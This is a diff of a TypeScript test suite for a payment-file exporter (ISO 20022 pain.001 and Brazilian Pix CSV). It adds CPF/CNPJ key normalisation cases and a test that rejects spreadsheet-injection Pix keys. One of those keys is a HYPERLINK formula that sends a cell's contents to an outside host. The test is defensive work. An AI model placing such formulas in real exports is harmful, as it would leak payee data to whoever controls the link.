@@ -31,7 +31,7 @@ async function write(rows: readonly FileRow[], format: string, payer: typeof PAY
   const [group] = planPaymentFiles(CYCLE, rows, payer);
   const { network, currency, files } = group!;
   const plan = files.find((one) => one.format === format)!;
-  const text = await writePaymentFile(plan, { cycleId: CYCLE, network, currency, exportedAt: at, payer });
+  const text = writePaymentFile(plan, { cycleId: CYCLE, network, currency, exportedAt: at, payer });
   return { plan, text: text ?? '' };
 }
 
@@ -69,10 +69,10 @@ describe('a pain.001.001.09 message', () => {
     expect(textsOf(late.text, 'Dt')).toEqual(['2026-12-03']);
   });
 
-  it('has the same bytes for the same payouts, and another id for others: a bank refuses it twice', async () => {
+  it('has the same bytes for the same payouts, and one id when it is made again without some: a bank refuses it twice', async () => {
     const id = async (of: readonly FileRow[]) => textsOf((await write(of, 'pain001')).text, 'MsgId')[0];
     expect((await write([...rows].reverse(), 'pain001')).text).toBe((await write(rows, 'pain001')).text);
-    expect(await id(rows.slice(1))).not.toBe(await id(rows));
+    expect(await id(rows.slice(1))).toBe(await id(rows));
   });
 
   it('names each payout by a reference that the result import recognises', async () => {
@@ -133,19 +133,29 @@ describe('what a format cannot carry', () => {
 });
 
 describe('lists of banks and providers', () => {
-  const PIX: [string, string][] = [
+  const PIX: [kind: string, key: string, inFile?: string][] = [
     ['EMAIL', 'ana@x.com'],
     ['TELEFONE', '+5511999990000'],
-    ['CPF', '529.982.247-25'],
-    ['CNPJ', '11.222.333/0001-81'],
+    ['CPF', '529.982.247-25', '52998224725'],
+    ['CPF', '52998224-725', '52998224725'],
+    ['CNPJ', '11.222.333/0001-81', '11222333000181'],
+    ['CNPJ', '11222333-0001-81', '11222333000181'],
     ['ALEATORIA', '123e4567-e89b-12d3-a456-426614174000'],
   ];
 
-  it.each(PIX)('Pix: %s', async (kind, pixKey) => {
+  it.each(['=cmd@x.com', '+HYPERLINK("http://x.com/?"&C2,"a@b.c")', '@x@y.com', '-1@x.com'])(
+    'a Pix key that a spreadsheet would run is left out: %s',
+    async (pixKey) => {
+      const { plan } = await write([row('ana', 10_00, bank('PIX', { holder: 'Ana', pixKey }), 'BRL')], 'pix');
+      expect(plan).toMatchObject({ transfers: [], leftOut: [{ uid: 'ana', reason: 'account' }] });
+    },
+  );
+
+  it.each(PIX)('Pix: %s %s', async (kind, pixKey, inFile = pixKey) => {
     const { text } = await write([row('ana', 1_234_50, bank('PIX', { holder: 'João Ávila', pixKey }), 'BRL')], 'pix');
     expect(text).toBe(
       'tipo_chave,chave,nome,valor,descricao,identificador\r\n' +
-        `${kind},${pixKey},Joao Avila,1234.50,Pagamento 2026-12-01,${paymentReference('ana', CYCLE)}\r\n`,
+        `${kind},${inFile},Joao Avila,1234.50,Pagamento 2026-12-01,${paymentReference('ana', CYCLE)}\r\n`,
     );
   });
 
